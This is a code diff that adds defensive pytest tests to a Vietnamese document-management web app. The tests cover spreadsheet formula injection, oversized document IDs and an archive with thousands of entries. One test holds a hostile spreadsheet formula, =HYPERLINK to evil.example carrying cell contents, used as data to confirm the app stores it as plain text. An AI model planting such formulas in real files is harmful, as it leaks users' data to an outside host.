@@ -150,3 +150,37 @@ def test_a_post_from_another_site_is_refused_even_with_the_token(client, headers
                      follow_redirects=False)
     assert ok.status_code == 303
     wait_build(client)
+
+
+def test_a_register_book_never_holds_a_formula(tmp_path):
+    import openpyxl
+
+    from kiemdiem_docs.book import COLUMNS, write_book
+
+    hostile = '=HYPERLINK("http://evil.example/?d="&A2,"Xem")'
+    row = {key: hostile for key, _, _ in COLUMNS} | {"stt": 1, "lan": 1}
+    write_book([row], tmp_path / "so.xlsx")
+    sheet = openpyxl.load_workbook(tmp_path / "so.xlsx").active
+    cells = [c for c in sheet[2] if isinstance(c.value, str)]
+    assert cells and all(c.data_type == "s" and c.value == hostile for c in cells)
+
+
+@pytest.mark.parametrize("path", ["/van-ban/99999999999999999999999/docx",
+                                  "/van-ban/99999999999999999999999"])
+def test_a_document_number_past_sqlites_integers_is_not_found(client, path):
+    r = client.get(path)
+    assert r.status_code == 404 and "Traceback" not in r.text
+
+
+def test_a_zip_of_thousands_of_entries_is_no_workbook(tmp_path):
+    import io
+    import zipfile
+
+    data = io.BytesIO()
+    with zipfile.ZipFile(data, "w") as z:
+        for i in range(3000):
+            z.writestr(f"{i}.csv", b"")
+    client = web_client(tmp_path / "ws", converter=None)
+    r = client.post("/so-danh-sach", data={"csrf": token(client)},
+                    files={"tep": ("a.zip", data.getvalue())})
+    assert r.status_code == 400 and "không phải sổ Excel" in r.text
